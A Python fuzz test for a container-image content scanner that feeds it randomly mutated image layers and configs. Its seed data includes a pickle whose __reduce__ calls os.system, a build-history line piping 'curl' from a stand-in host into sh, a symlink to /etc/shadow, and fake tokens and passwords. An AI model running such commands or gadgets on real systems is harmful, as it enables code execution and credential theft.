"""Seeded fuzzing of the layer-content scan: whatever the files and config, it returns."""

from __future__ import annotations

import gzip
import os
import pickle
import random
import sys
import zipfile
from io import BytesIO
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "images"))

from image_builders import LayerSpec, Member, build_oci_layout, symlink

from secpipe.images.layers import apply_layers
from secpipe.images.layout import open_image
from secpipe.scanners.image.content import ContentLimits, scan_contents


class _Evil:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, ("true",))


def _seeds() -> list[bytes]:
    zipped = BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(_Evil(), protocol=2))
    return [pickle.dumps(_Evil(), protocol=p) for p in (0, 2, 4)] + [
        zipped.getvalue(), gzip.compress(b"password = 'hunter2hunter2'\n" * 50, mtime=0),
        b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }",
        b"GGUF\x03\x00\x00\x00" + bytes(64), b"\x89HDF\r\n\x1a\n" + bytes(600),
        b"\x08\x07\x12\x04test" + bytes(32), b"\x10\x00\x00\x00\x00\x00\x00\x00{\"a\":1}  ",
        b"\xff\xfep\x00a\x00s\x00s\x00", b"(lp0\nI1\na.", b"{" * 5000,
    ]


def _mutate(data: bytes, rng: random.Random) -> bytes:
    buf = bytearray(data)
    for _ in range(rng.randint(0, 6)):
        if not buf:
            break
        action = rng.randrange(3)
        at = rng.randrange(len(buf))
        if action == 0:
            buf[at] = rng.randrange(256)
        elif action == 1:
            del buf[at:at + rng.randint(1, 16)]
        else:
            buf[at:at] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 16)))
    return bytes(buf)


NAMES = ["m.pkl", "w.pt", "x.bin", "model.bin", "a.npy", "data", "c.json", ".env", "k.gz",
         "id_rsa", "credentials", "x.h5", "s.safetensors", "g.gguf", "f.onnx"]


def test_random_files_and_configs_never_crash(tmp_path: Path) -> None:
    rng = random.Random(1414)
    seeds = _seeds()
    limits = ContentLimits(max_file_bytes=64 * 1024, max_archive_bytes=1 << 20,
                           max_model_bytes=1 << 22)
    for round_ in range(12):
        layers: list[LayerSpec] = []
        for _ in range(rng.randint(1, 3)):
            files: dict[str, bytes | Member] = {}
            for i in range(rng.randint(1, 6)):
                name = f"d{rng.randrange(3)}/{rng.choice(NAMES)}"
                files[name if name not in files else f"{name}{i}"] = _mutate(
                    rng.choice(seeds), rng)
            if rng.random() < 0.3:
                files[f"d{rng.randrange(3)}/.wh.{rng.choice(NAMES)}"] = b""
            if rng.random() < 0.2:
                files["d9/link"] = symlink("../../../etc/shadow")
            layers.append(files)
        history = [_mutate(b"|1 X=1 /bin/sh -c curl -s http://e.example/x | sh # buildkit",
                           rng).decode("latin-1") for _ in range(len(layers))]
        env = [_mutate(b"API_TOKEN=Zq8vT3rpL0xw-secret", rng).decode("latin-1")]
        user = rng.choice(["", "root", "0", "app", "1000", "\x00", ":"])
        config = {"config": {"User": user, "Env": env},
                  "history": [{"created_by": h} for h in history]}
        where = tmp_path / str(round_)
        build_oci_layout(where, layers, config)
        with open_image(where) as image, apply_layers(image) as tree:
            findings, problems = scan_contents(tree, image, limits=limits, max_bytes=1 << 20)
        assert isinstance(findings, list) and isinstance(problems, list)
